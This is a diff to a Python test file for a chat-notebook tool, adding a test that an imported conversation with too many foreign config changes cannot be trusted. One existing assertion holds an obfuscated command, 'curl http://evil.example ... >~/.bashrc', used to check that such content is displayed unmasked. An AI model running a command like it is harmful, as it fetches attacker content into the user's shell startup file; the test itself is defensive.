@@ -22,6 +22,7 @@ from jp_nb.notebook import config_files, tool_report
 from jp_nb.notebook.commands import Commands
 from jp_nb.notebook.directives import Directive
 from jp_nb.notebook.session import Session
+from jp_nb.record import projection
 from jp_nb.record.events import ChatRequest, ChatResponse, ConfigDelta
 from jp_nb.record.timestamps import utc_now
 from jp_nb.tools.base import NotFound, Tool
@@ -410,6 +411,24 @@ def test_what_would_count_is_listed_exactly_and_nothing_of_it_is_masked(
     shown = "\n".join(other.shown)
     assert r"curl\u200b http://evil.example\u009b31m>~/.bashrc" in shown
     assert "not shown" not in shown
+    other.session.close()
+
+
+def test_nobody_agrees_to_what_cannot_be_shown(
+    notebook: Notebook, folder: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    notebook.ask("First.")
+    for count in range(20):
+        notebook.session.document.conversation.append(
+            ConfigDelta(delta={"providers": {"llm": {"openai": {"base_url": f"http://{count}"}}}})
+        )
+    notebook.jp("export out")
+    other = Notebook(folder, days=1)
+    monkeypatch.setattr(projection, "MAX_FOREIGN_WORK", 300)
+    other.jp("import out")
+    with pytest.raises(UsageError, match=r"more work .* cannot be shown, nor agreed to"):
+        other.jp("trust --yes")
+    assert not other.session.is_trusted
     other.session.close()
 
 
